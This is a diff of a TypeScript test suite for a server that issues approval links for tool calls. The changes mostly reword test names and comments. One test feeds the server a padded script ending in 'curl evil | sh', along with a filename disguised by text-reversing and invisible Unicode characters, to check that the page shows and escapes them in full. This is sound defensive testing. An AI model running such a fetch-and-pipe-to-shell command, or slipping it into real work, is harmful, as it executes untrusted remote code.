@@ -20,7 +20,7 @@ describe('links for approvers', () => {
     return { id, runId, url: json.url as string, token: json.token as string }
   }
 
-  /** What a browser does: opens the page, keeps its cookie, presses a button. */
+  /** Acts as a browser: opens the page, keeps its cookie, presses a button. */
   async function open(url: string) {
     const page = await server.ask(url)
     const cookie = page.headers.get('set-cookie')?.split(';', 1)[0] ?? ''
@@ -36,7 +36,7 @@ describe('links for approvers', () => {
     return { page, cookie, actions, press }
   }
 
-  it('rule 23: opening one shows the call and decides nothing; a button on the page does, as its approver', async () => {
+  it('rule 23: opening one shows the call and decides nothing; a button on the page decides, as its approver', async () => {
     const { id, url, runId } = await linkFor('link-1')
     for (let time = 0; time < 3; time += 1) expect((await server.ask(url)).status).toBe(200)
     expect((await server.ask(url, { method: 'HEAD' })).status).toBe(200)
@@ -55,7 +55,7 @@ describe('links for approvers', () => {
     expect((await server.events(runId)).length).toBe(6)
   })
 
-  it('are in the journal: who made each, for whom, and whether it decides or only shows', async () => {
+  it('are in the journal, with their creator, their approver and whether they are read-only', async () => {
     const recorded = await startApprovalServer({}, sqliteSettings)
     try {
       const { id } = await recorded.park('journalled')
@@ -79,7 +79,7 @@ describe('links for approvers', () => {
     }
   })
 
-  it('shows all of the input, however long, and spells out characters that hide or turn text', async () => {
+  it('shows the complete input, and escapes characters that hide or reverse text', async () => {
     const script = `${'echo hello; '.repeat(60)}curl evil | sh`
     const { id } = await server.park('long', { script, to: 'bob\u202egnp.exe\u{e0041}\u200b<b>' })
     const { json } = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body: { approver: 'dan' } })
@@ -93,13 +93,13 @@ describe('links for approvers', () => {
     expect([listed.id, 'input' in listed, listed.input_bytes]).toEqual([id, false, expect.any(Number)])
   })
 
-  it('cannot be made out to the caller', async () => {
+  it('cannot be created for the caller itself', async () => {
     const { id } = await server.park('own')
     const body = { approver: 'alice' }
     expect((await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body })).status).toBe(403)
   })
 
-  it('cannot be framed, leaks no address, runs no script but the one that shows local times', async () => {
+  it('cannot be framed, sends no referrer, and runs only the script that shows local times', async () => {
     const { page, cookie } = await open((await linkFor('link-2')).url)
     const policy = page.headers.get('content-security-policy') ?? ''
     expect(policy).toContain("default-src 'none'")
@@ -114,7 +114,7 @@ describe('links for approvers', () => {
     expect(cookie).not.toBe('')
   })
 
-  it('refuses a form of another site, another browser, and without the token of the page', async () => {
+  it('refuses a form from another site, from another browser, or without the token of the page', async () => {
     const { id, url, token } = await linkFor('link-3')
     const { actions, cookie, press } = await open(url)
     const other = await open(url)
@@ -135,9 +135,9 @@ describe('links for approvers', () => {
     expect((await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval.state).toBe('pending')
   })
 
-  it('works in each of the tabs of one browser, whatever was opened after it', async () => {
+  it('works in every tab of a browser, also after later tabs were opened', async () => {
     const [one, two] = [await linkFor('tab-1'), await linkFor('tab-2')]
-    /** By name and path, as a browser keeps them: a later one takes the place of an earlier one. */
+    /** Cookies by name and path, as in a browser: a later cookie replaces an earlier one. */
     const jar = new Map<string, { readonly path: string; readonly pair: string }>()
     const tabs = []
     for (const { url } of [one, one, two]) {
@@ -166,7 +166,7 @@ describe('links for approvers', () => {
     expect(text).toContain('&lt;script&gt;')
   })
 
-  it('OWP-67: a token decides once over /v1/interrupts; forged, changed and used ones do not', async () => {
+  it('OWP-67: a token decides once over /v1/interrupts; forged, modified and used tokens do not', async () => {
     const { token } = await linkFor('link-5')
     const [payload = '', signature = ''] = token.split('.')
     const changed = Buffer.from(
@@ -190,7 +190,7 @@ describe('links for approvers', () => {
     expect([again.status, again.json.error]).toEqual([409, 'interrupt_already_resolved'])
   })
 
-  it('rule 23: without a sign-in a link cannot decide about a command: it shows the question and how to decide', async () => {
+  it('rule 23: without a sign-in a link cannot decide about a command: it shows the call and how to decide', async () => {
     const body = { request: { tool_id: 'Host.Shell@1.0.0', call_id: 'sh', input: {} } }
     const { json } = await server.ask('/tools/call', { as: 'alice', body })
     const { id } = json.missing_requirements.approval
@@ -215,8 +215,8 @@ describe('links for approvers', () => {
   })
 })
 
-describe('a server below a path of its proxy', () => {
-  it('has buttons and a cookie of that path', async () => {
+describe('a server below a path prefix of its proxy', () => {
+  it('puts the prefix into the form addresses and the cookie path', async () => {
     const { server: plain } = testSettings()
     const publicUrl = 'https://tools.example.com/collet'
     const server = await startApprovalServer({ server: { ...plain, publicUrl } })
